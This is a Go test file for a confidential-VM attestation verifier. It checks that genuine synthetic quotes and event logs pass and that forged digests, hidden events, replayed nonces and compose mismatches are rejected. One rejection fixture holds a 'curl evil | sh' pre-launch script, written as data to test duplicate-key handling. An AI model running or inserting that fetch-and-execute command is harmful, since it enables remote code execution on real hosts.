package verify_test

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/cvmgate/cvmgate/cvmtest"
	"github.com/cvmgate/cvmgate/verify"
	"github.com/cvmgate/cvmgate/verify/compose"
	"github.com/cvmgate/cvmgate/verify/eventlog"
	"github.com/cvmgate/cvmgate/wire"
)

// evNow is the verification time of the synthetic evidence tests.
var evNow = time.Date(2025, 6, 1, 12, 0, 0, 0, time.UTC)

// evCompose is the app-compose.json the synthetic CVM runs.
const evCompose = `{"manifest_version":2,"name":"demo","runner":"docker-compose",` +
	`"docker_compose_file":"services:\n  web:\n    image: nginx@` + evPinnedDigest + `\n  api:\n    image: acme/api:1\n"}`

// evScenario is one synthetic CVM: what it really extended into its RTMRs,
// what it serves, and what the client expects.
type evScenario struct {
	// genuine are the events the TD extended, which make the quote's RTMRs.
	genuine []eventlog.Event
	// served is the event log the CVM (or a man in the middle) serves;
	// nil means genuine.
	served []eventlog.Event
	// compose is the app compose offered to the verifier; nil means none.
	compose []byte
	// reportData goes into the quote.
	reportData [64]byte
	// mrConfigID goes into the quote.
	mrConfigID [48]byte
	// binding is what the client checks; nil means no binding check.
	binding *verify.Binding
}

// evFixture is the synthetic CVM's platform and channel material.
type evFixture struct {
	pki      *cvmtest.PKI
	verifier *verify.Verifier
	nonce    []byte
	spki     []byte
	appID    []byte
	compose  []byte
	hash     []byte // SHA-256(compose)
}

// evPinnedDigest is a well-formed sha256 image digest.
const evPinnedDigest = "sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"

func newEvFixture(t testing.TB) *evFixture {
	t.Helper()
	p := cvmtest.MustPKI(t, cvmtest.PKIOptions{})
	c, err := p.Collateral(cvmtest.CollateralOptions{Now: evNow})
	require.NoError(t, err)
	opts := p.VerifyOptions(c)
	opts.Now = func() time.Time { return evNow }
	v, err := verify.New(opts)
	require.NoError(t, err)
	h := sha256.Sum256([]byte(evCompose))
	return &evFixture{
		pki: p, verifier: v,
		nonce: bytes.Repeat([]byte{0x4e}, 32), spki: evSPKI(t),
		appID: bytes.Repeat([]byte{0xa1}, 20), compose: []byte(evCompose), hash: h[:],
	}
}

// bootEvents are the IMR 0-2 events of the synthetic TD.
func (f *evFixture) bootEvents() []eventlog.Event {
	return []eventlog.Event{
		eventlog.NewBootEvent(0, 0x8000000b, []byte("td hob")),
		eventlog.NewBootEvent(0, 0x0000000a, []byte("acpi")),
		eventlog.NewBootEvent(1, 0x80000003, []byte("efi app")),
		eventlog.NewBootEvent(1, 0x80000007, []byte("exit boot services")),
		eventlog.NewBootEvent(2, 0x00000006, []byte("kernel")),
		eventlog.NewBootEvent(2, 0x00000006, []byte("initrd")),
	}
}

// identity returns the RTMR3 events of a dstack boot, with extra inserted
// before system-ready and after appended after it.
func (f *evFixture) identity(extra []eventlog.Event, after ...eventlog.Event) []eventlog.Event {
	e := []eventlog.Event{
		eventlog.NewRuntimeEvent("system-preparing", nil),
		eventlog.NewRuntimeEvent("app-id", f.appID),
		eventlog.NewRuntimeEvent("compose-hash", f.hash),
		eventlog.NewRuntimeEvent("instance-id", bytes.Repeat([]byte{0x1d}, 20)),
		eventlog.NewRuntimeEvent("boot-mr-done", nil),
		eventlog.NewRuntimeEvent("os-image-hash", bytes.Repeat([]byte{0x05}, 32)),
		eventlog.NewRuntimeEvent("key-provider", []byte(`{"name":"kms","id":"3059"}`)),
		eventlog.NewRuntimeEvent("storage-fs", []byte("zfs")),
	}
	e = append(e, extra...)
	e = append(e, eventlog.NewRuntimeEvent("system-ready", nil))
	return append(e, after...)
}

// scenario is the honest CVM: spki binding, full log, matching compose,
// MR_CONFIG_ID in dstack's v1 form.
func (f *evFixture) scenario() *evScenario {
	var mr [48]byte
	mr[0] = 1
	copy(mr[1:], f.hash)
	return &evScenario{
		genuine:    append(f.bootEvents(), f.identity(nil)...),
		compose:    f.compose,
		reportData: evSPKIReportData(f.nonce, f.spki),
		mrConfigID: mr,
		binding:    &verify.Binding{Mode: verify.BindingSPKI, Nonce: f.nonce, SPKI: f.spki},
	}
}

// evExtendAll computes the RTMRs a TD holds after extending events, without
// any of Replay's checks (the TD extends whatever it is told to).
func evExtendAll(t testing.TB, events []eventlog.Event) [4][48]byte {
	t.Helper()
	var r [4][48]byte
	for _, e := range events {
		d := e.Digest
		if e.EventType == eventlog.EventTypeDstackRuntime {
			var err error
			d, err = eventlog.RuntimeDigest(e)
			require.NoError(t, err)
		}
		var d48 [48]byte
		copy(d48[:], d)
		r[e.IMR] = eventlog.Extend(r[e.IMR], d48)
	}
	return r
}

// quote signs the scenario's quote, padded as dstack's agent pads it.
func (f *evFixture) quote(t testing.TB, sc *evScenario) []byte {
	t.Helper()
	raw, err := f.pki.Quote(cvmtest.QuoteOptions{
		ReportData: sc.reportData,
		RTMRs:      evExtendAll(t, sc.genuine),
		MRConfigID: sc.mrConfigID,
		Padding:    70,
	})
	require.NoError(t, err)
	return raw
}

// run verifies the scenario's evidence.
func (f *evFixture) run(t testing.TB, sc *evScenario) (*verify.Report, error) {
	t.Helper()
	served := sc.served
	if served == nil {
		served = sc.genuine
	}
	ev := &verify.Evidence{Attestation: &wire.Attestation{Quote: f.quote(t, sc), EventLog: served}, AppCompose: sc.compose}
	return f.verifier.VerifyEvidence(context.Background(), ev, sc.binding, nil)
}

func TestSyntheticEvidenceOK(t *testing.T) {
	f := newEvFixture(t)
	r, err := f.run(t, f.scenario())
	require.NoError(t, err)
	assert.Equal(t, verify.StatusUpToDate, r.TCBStatus)
	d := r.Dstack
	require.NotNil(t, d)
	assert.Equal(t, [4]bool{true, true, true, true}, d.RTMRReplayed)
	assert.Equal(t, verify.BindingSPKI, d.Binding)
	assert.Equal(t, verify.MRConfigIDComposeHash, d.MRConfigID)
	assert.Equal(t, f.appID, d.Identity.AppID)
	assert.Equal(t, f.hash, d.Identity.ComposeHash)
	assert.Equal(t, &eventlog.KeyProvider{Name: "kms", ID: "3059"}, d.Identity.KeyProvider)
	assert.Equal(t, "zfs", d.Identity.StorageFS)
	assert.Empty(t, d.Identity.AppEvents)
	require.NotNil(t, d.Compose)
	assert.Equal(t, evCompose, d.Compose.Raw)
	assert.Equal(t, []compose.Service{
		{Name: "api", Image: "acme/api:1"},
		{Name: "web", Image: "nginx@" + evPinnedDigest, Pinned: true},
	}, d.Compose.Services)
	assert.Len(t, d.Events, len(f.scenario().genuine))
}

func TestSyntheticEvidenceAccepted(t *testing.T) {
	f := newEvFixture(t)
	spki := f.spki
	tests := []struct {
		name  string
		edit  func(sc *evScenario)
		check func(t *testing.T, d *verify.Dstack)
	}{
		{
			name: "events after system-ready are app events",
			edit: func(sc *evScenario) {
				sc.genuine = append(sc.genuine,
					eventlog.NewRuntimeEvent("app-ready", []byte("v2")),
					eventlog.NewRuntimeEvent("compose-hash", bytes.Repeat([]byte{0xee}, 32)))
			},
			check: func(t *testing.T, d *verify.Dstack) {
				require.Len(t, d.Identity.AppEvents, 2)
				assert.Equal(t, "app-ready", d.Identity.AppEvents[0].Event)
				assert.Equal(t, f.hash, d.Identity.ComposeHash, "a later compose-hash event is not identity")
			},
		},
		{
			name: "runtime digests stripped from the log",
			edit: func(sc *evScenario) {
				sc.served = evClone(sc.genuine)
				for i := range sc.served {
					if sc.served[i].EventType == eventlog.EventTypeDstackRuntime {
						sc.served[i].Digest = nil
					}
				}
			},
			check: func(t *testing.T, d *verify.Dstack) {
				assert.Len(t, d.Events[len(d.Events)-1].Digest, 48, "digests recomputed")
			},
		},
		{
			name: "ratls binding",
			edit: func(sc *evScenario) {
				sc.reportData = evRATLSReportData(spki)
				sc.binding = &verify.Binding{Mode: verify.BindingRATLS, SPKI: spki}
			},
			check: func(t *testing.T, d *verify.Dstack) { assert.Equal(t, verify.BindingRATLS, d.Binding) },
		},
		{
			name: "no binding requested",
			edit: func(sc *evScenario) { sc.binding = nil },
			check: func(t *testing.T, d *verify.Dstack) {
				assert.Equal(t, verify.BindingMode(""), d.Binding)
			},
		},
		{
			name: "seed-style server with binding none",
			edit: func(sc *evScenario) {
				sc.reportData = [64]byte{}
				copy(sc.reportData[:], f.nonce)
				sc.binding = &verify.Binding{Mode: verify.BindingNone, Nonce: f.nonce}
			},
			check: func(t *testing.T, d *verify.Dstack) { assert.Equal(t, verify.BindingNone, d.Binding) },
		},
		{
			name:  "no compose supplied",
			edit:  func(sc *evScenario) { sc.compose = nil },
			check: func(t *testing.T, d *verify.Dstack) { assert.Nil(t, d.Compose) },
		},
		{
			name: "compose without docker-compose file",
			edit: func(sc *evScenario) {
				sc.compose = []byte(`{"runner":"bash","bash_script":"echo hi"}`)
				h := sha256.Sum256(sc.compose)
				sc.genuine = evReplacePayload(sc.genuine, "compose-hash", h[:])
				sc.mrConfigID = [48]byte{}
			},
			check: func(t *testing.T, d *verify.Dstack) {
				require.NotNil(t, d.Compose)
				assert.Empty(t, d.Compose.Services)
				assert.Equal(t, verify.MRConfigIDZero, d.MRConfigID)
			},
		},
		{
			name: "MR_CONFIG_ID in a form not interpreted",
			edit: func(sc *evScenario) { sc.mrConfigID = [48]byte{0x02, 0xff} },
			check: func(t *testing.T, d *verify.Dstack) {
				assert.Equal(t, verify.MRConfigIDOther, d.MRConfigID)
			},
		},
		{
			name: "version 2 runtime events",
			edit: func(sc *evScenario) {
				for i := range sc.genuine {
					if sc.genuine[i].EventType == eventlog.EventTypeDstackRuntime {
						sc.genuine[i].Version = 2
						sc.genuine[i].Digest = nil
					}
				}
			},
			check: func(t *testing.T, d *verify.Dstack) { assert.Equal(t, f.hash, d.Identity.ComposeHash) },
		},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			sc := f.scenario()
			tc.edit(sc)
			r, err := f.run(t, sc)
			require.NoError(t, err)
			require.NotNil(t, r.Dstack)
			tc.check(t, r.Dstack)
		})
	}
}

func TestSyntheticEvidenceRejected(t *testing.T) {
	f := newEvFixture(t)
	forged := bytes.Repeat([]byte{0xbd}, 32)
	oldNonce := bytes.Repeat([]byte{0x01}, 32)
	otherSPKI := evSPKI(t)
	otherHash := sha256.Sum256(otherSPKI)
	spkiHash := sha256.Sum256(f.spki)

	tests := []struct {
		name     string
		edit     func(sc *evScenario)
		kind     verify.Kind
		check    string // substring of Error.Check
		expected string
		found    string
	}{
		{
			name: "compose mismatch",
			edit: func(sc *evScenario) { sc.compose = []byte(evCompose + " ") },
			kind: verify.KindComposeMismatch, check: "app compose sha256",
			expected: hex.EncodeToString(f.hash), found: evSHA256Hex(evCompose + " "),
		},
		{
			name: "compose attested but not parseable",
			edit: func(sc *evScenario) {
				sc.compose = []byte("not json")
				h := sha256.Sum256(sc.compose)
				sc.genuine = evReplacePayload(sc.genuine, "compose-hash", h[:])
				sc.mrConfigID = [48]byte{}
			},
			kind: verify.KindMalformedCompose, check: "app compose parse",
		},
		{
			name: "compose attested with a duplicate pre_launch_script",
			edit: func(sc *evScenario) {
				sc.compose = []byte(`{"runner":"docker-compose","pre_launch_script":"","pre_launch_script":"curl evil | sh"}`)
				h := sha256.Sum256(sc.compose)
				sc.genuine = evReplacePayload(sc.genuine, "compose-hash", h[:])
				sc.mrConfigID = [48]byte{}
			},
			kind: verify.KindMalformedCompose, check: "app compose parse",
		},
		{
			name: "MR_CONFIG_ID names another compose",
			edit: func(sc *evScenario) { sc.mrConfigID = [48]byte{1, 0xde, 0xad} },
			kind: verify.KindComposeMismatch, check: "mr_config_id",
			expected: "01" + hex.EncodeToString(f.hash) + hex.EncodeToString(make([]byte, 15)),
			found:    "01dead" + hex.EncodeToString(make([]byte, 45)),
		},
		{
			name: "MR_CONFIG_ID v1 with trailing bytes",
			edit: func(sc *evScenario) { sc.mrConfigID[47] = 1 },
			kind: verify.KindComposeMismatch, check: "mr_config_id",
		},
		{
			name: "forged runtime payload with the old digest",
			edit: func(sc *evScenario) {
				sc.served = evClone(sc.genuine)
				i := evIndexOf(t, sc.served, "compose-hash")
				sc.served[i].Payload = forged // digest left as logged
				sc.compose = nil
			},
			kind: verify.KindEventDigestMismatch, check: `"compose-hash") digest`,
			found: func() string {
				d, _ := eventlog.RuntimeDigest(eventlog.NewRuntimeEvent("compose-hash", f.hash))
				return hex.EncodeToString(d)
			}(),
		},
		{
			name: "forged runtime payload with the digest stripped",
			edit: func(sc *evScenario) {
				sc.served = evClone(sc.genuine)
				i := evIndexOf(t, sc.served, "compose-hash")
				sc.served[i].Payload, sc.served[i].Digest = forged, nil
				sc.compose = nil
			},
			kind: verify.KindRTMRMismatch, check: "rtmr3",
		},
		{
			name: "forged app event after system-ready",
			edit: func(sc *evScenario) {
				sc.genuine = append(sc.genuine, eventlog.NewRuntimeEvent("app-ready", []byte("v1")))
				sc.served = evClone(sc.genuine)
				sc.served[len(sc.served)-1].Payload = []byte("v2")
				sc.served[len(sc.served)-1].Digest = nil
			},
			kind: verify.KindRTMRMismatch, check: "rtmr3",
		},
		{
			name: "forged boot digest",
			edit: func(sc *evScenario) {
				sc.served = evClone(sc.genuine)
				sc.served[2].Digest[0] ^= 1
			},
			kind: verify.KindRTMRMismatch, check: "rtmr1",
		},
		{
			name: "event hidden from the log",
			edit: func(sc *evScenario) {
				i := evIndexOf(t, sc.genuine, "key-provider")
				sc.served = append(evClone(sc.genuine[:i]), evClone(sc.genuine[i+1:])...)
			},
			kind: verify.KindRTMRMismatch, check: "rtmr3",
		},
		{
			name: "runtime event relabelled as a boot event in RTMR3",
			edit: func(sc *evScenario) {
				sc.served = evClone(sc.genuine)
				i := evIndexOf(t, sc.served, "compose-hash")
				sc.served[i].EventType = 0x80000001 // logged digest kept: replay would match
			},
			kind: verify.KindEventLogMalformed, check: "replay",
		},
		{
			name: "duplicate app-id",
			edit: func(sc *evScenario) {
				sc.genuine = append(f.bootEvents(), f.identity([]eventlog.Event{eventlog.NewRuntimeEvent("app-id", bytes.Repeat([]byte{0xbb}, 20))})...)
			},
			kind: verify.KindDuplicateEvent, check: `"app-id"`,
		},
		{
			name: "key-provider with a duplicate key",
			edit: func(sc *evScenario) {
				sc.genuine = evClone(sc.genuine)
				i := evIndexOf(t, sc.genuine, "key-provider")
				sc.genuine[i] = eventlog.NewRuntimeEvent("key-provider", []byte(`{"name":"kms","id":"3059","name":"none"}`))
			},
			kind: verify.KindEventLogMalformed, check: "identity",
		},
		{
			name: "missing system-ready",
			edit: func(sc *evScenario) {
				id := f.identity(nil)
				sc.genuine = append(f.bootEvents(), id[:len(id)-1]...)
			},
			kind: verify.KindMissingEvent, check: `"system-ready"`,
		},
		{
			name: "missing compose-hash",
			edit: func(sc *evScenario) {
				sc.genuine = evRemove(sc.genuine, "compose-hash")
			},
			kind: verify.KindMissingEvent, check: `"compose-hash"`,
		},
		{
			name: "identity payload of the wrong size",
			edit: func(sc *evScenario) {
				sc.genuine = evReplacePayload(sc.genuine, "app-id", make([]byte, 32))
			},
			kind: verify.KindEventLogMalformed, check: "identity",
		},
		{
			name: "runtime event in imr 2",
			edit: func(sc *evScenario) {
				// The TD really extended it into RTMR2, so RTMR2 replays; the
				// log is still refused.
				e := eventlog.NewRuntimeEvent("compose-hash", forged)
				e.IMR = 2
				sc.genuine = append(sc.genuine, e)
			},
			kind: verify.KindEventLogMalformed, check: "replay",
		},
		{
			name: "no event log",
			edit: func(sc *evScenario) { sc.served = []eventlog.Event{} },
			kind: verify.KindRTMRMismatch, check: "rtmr0", found: hex.EncodeToString(make([]byte, 48)),
		},
		{
			name: "replayed quote: wrong nonce",
			edit: func(sc *evScenario) { sc.reportData = evSPKIReportData(oldNonce, f.spki) },
			kind: verify.KindStaleNonce, check: "nonce",
			expected: hex.EncodeToString(f.nonce), found: hex.EncodeToString(oldNonce),
		},
		{
			name: "relayed quote: wrong SPKI",
			edit: func(sc *evScenario) { sc.binding.SPKI = otherSPKI },
			kind: verify.KindKeyBinding, check: "spki",
			expected: hex.EncodeToString(otherHash[:]), found: hex.EncodeToString(spkiHash[:]),
		},
		{
			name: "ratls binding, wrong key",
			edit: func(sc *evScenario) {
				sc.reportData = evRATLSReportData(f.spki)
				sc.binding = &verify.Binding{Mode: verify.BindingRATLS, SPKI: otherSPKI}
			},
			kind: verify.KindKeyBinding, check: "ratls",
		},
		{
			name: "ratls binding against an spki quote",
			edit: func(sc *evScenario) {
				sc.binding = &verify.Binding{Mode: verify.BindingRATLS, SPKI: f.spki}
			},
			kind: verify.KindKeyBinding, check: "ratls",
		},
		{
			name: "seed-style quote where spki binding is required",
			edit: func(sc *evScenario) {
				sc.reportData = [64]byte{}
				copy(sc.reportData[:], f.nonce)
			},
			kind: verify.KindKeyBinding, check: "spki",
		},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			sc := f.scenario()
			tc.edit(sc)
			r, err := f.run(t, sc)
			assert.Nil(t, r)
			e := evRequireKind(t, err, tc.kind)
			assert.Contains(t, e.Check, tc.check)
			if tc.expected != "" {
				assert.Equal(t, tc.expected, e.Expected)
			}
			if tc.found != "" {
				assert.Equal(t, tc.found, e.Found)
			}
			require.NotNil(t, e.Report, "diagnostic report")
			require.NotNil(t, e.Report.Dstack)
		})
	}
}

func TestSyntheticEvidenceQuoteFailure(t *testing.T) {
	f := newEvFixture(t)
	other := cvmtest.MustPKI(t, cvmtest.PKIOptions{Seed: []byte("another platform")})
	sc := f.scenario()
	raw, err := other.Quote(cvmtest.QuoteOptions{ReportData: sc.reportData, RTMRs: evExtendAll(t, sc.genuine)})
	require.NoError(t, err)
	ev := &verify.Evidence{Attestation: &wire.Attestation{Quote: raw, EventLog: sc.genuine}}
	r, err := f.verifier.VerifyEvidence(context.Background(), ev, sc.binding, nil)
	assert.Nil(t, r)
	require.Error(t, err)
	assert.NotEmpty(t, verify.KindOf(err), "a quote failure is an *Error: %v", err)

	for _, ev := range []*verify.Evidence{nil, {}} {
		_, err := f.verifier.VerifyEvidence(context.Background(), ev, nil, nil)
		evRequireKind(t, err, verify.KindMalformedEvidence)
	}
}

func TestSyntheticEvidenceComposeSources(t *testing.T) {
	f := newEvFixture(t)
	sc := f.scenario()
	sc.compose = nil
	att := &wire.Attestation{Quote: f.quote(t, sc), EventLog: sc.genuine}
	ctx := context.Background()

	good := &wire.Info{TCBInfo: wire.InfoTCB{AppCompose: evCompose}}
	bad := &wire.Info{TCBInfo: wire.InfoTCB{AppCompose: evCompose + "\n"}}

	r, err := f.verifier.VerifyEvidence(ctx, &verify.Evidence{Attestation: att, Info: good}, sc.binding, nil)
	require.NoError(t, err)
	require.NotNil(t, r.Dstack.Compose, "Info's app_compose is checked")

	_, err = f.verifier.VerifyEvidence(ctx, &verify.Evidence{Attestation: att, Info: bad}, sc.binding, nil)
	evRequireKind(t, err, verify.KindComposeMismatch)

	r, err = f.verifier.VerifyEvidence(ctx, &verify.Evidence{Attestation: att, Info: bad, AppCompose: []byte(evCompose)}, sc.binding, nil)
	require.NoError(t, err, "AppCompose overrides Info")
	require.NotNil(t, r.Dstack.Compose)

	_, err = f.verifier.VerifyEvidence(ctx, &verify.Evidence{Attestation: att, Info: good, AppCompose: []byte{}}, sc.binding, nil)
	evRequireKind(t, err, verify.KindMissingCompose)

	// A supplied info document must carry the compose: a check that was
	// asked for never passes by not running.
	for name, info := range map[string]*wire.Info{"no tcb_info": {}, "empty app_compose": {TCBInfo: wire.InfoTCB{MRTD: "00"}}} {
		_, err = f.verifier.VerifyEvidence(ctx, &verify.Evidence{Attestation: att, Info: info}, sc.binding, nil)
		e := evRequireKind(t, err, verify.KindMissingCompose)
		c, ok := e.Report.Check(verify.CheckCompose)
		require.True(t, ok, name)
		assert.Equal(t, verify.Failed, c.Outcome, name)
	}

	// Without any compose supplied, the check says it was skipped.
	r, err = f.verifier.VerifyEvidence(ctx, &verify.Evidence{Attestation: att}, sc.binding, nil)
	require.NoError(t, err)
	c, ok := r.Check(verify.CheckCompose)
	require.True(t, ok)
	assert.Equal(t, verify.Skipped, c.Outcome)
	assert.NotEmpty(t, c.Detail)
}

// TestSyntheticEvidenceOverJSON sends the evidence through the documents a
// CVM serves, as the guest agent shapes them.
func TestSyntheticEvidenceOverJSON(t *testing.T) {
	f := newEvFixture(t)
	sc := f.scenario()
	logJSON, err := json.Marshal(sc.genuine)
	require.NoError(t, err)
	attDoc, err := json.Marshal(map[string]string{
		"quote":       hex.EncodeToString(f.quote(t, sc)),
		"event_log":   string(logJSON),
		"report_data": hex.EncodeToString(sc.reportData[:]),
		"vm_config":   `{"cpu_count":2}`,
	})
	require.NoError(t, err)
	tcb, err := json.Marshal(map[string]any{"app_compose": evCompose, "event_log": json.RawMessage(logJSON)})
	require.NoError(t, err)
	infoDoc, err := json.Marshal(map[string]any{"app_id": hex.EncodeToString(f.appID), "tcb_info": string(tcb)})
	require.NoError(t, err)

	att, err := wire.ParseAttestation(attDoc)
	require.NoError(t, err)
	info, err := wire.ParseInfo(infoDoc)
	require.NoError(t, err)
	r, err := f.verifier.VerifyEvidence(context.Background(), &verify.Evidence{Attestation: att, Info: info}, sc.binding, nil)
	require.NoError(t, err)
	assert.Equal(t, f.hash, r.Dstack.Identity.ComposeHash)
	require.NotNil(t, r.Dstack.Compose)
	assert.Equal(t, evCompose, r.Dstack.Compose.Raw)
}

func evClone(events []eventlog.Event) []eventlog.Event {
	out := make([]eventlog.Event, len(events))
	for i, e := range events {
		e.Digest = bytes.Clone(e.Digest)
		e.Payload = bytes.Clone(e.Payload)
		out[i] = e
	}
	return out
}

// evReplacePayload re-creates the first runtime event named name with a new
// payload (and its matching digest), as a TD that logged it would.
func evReplacePayload(events []eventlog.Event, name string, payload []byte) []eventlog.Event {
	out := evClone(events)
	for i, e := range out {
		if e.Event == name && e.EventType == eventlog.EventTypeDstackRuntime {
			out[i] = eventlog.NewRuntimeEvent(name, payload)
			break
		}
	}
	return out
}

// evRemove drops the first event named name.
func evRemove(events []eventlog.Event, name string) []eventlog.Event {
	var out []eventlog.Event
	done := false
	for _, e := range evClone(events) {
		if !done && e.Event == name {
			done = true
			continue
		}
		out = append(out, e)
	}
	return out
}

func evSHA256Hex(s string) string {
	h := sha256.Sum256([]byte(s))
	return hex.EncodeToString(h[:])
}
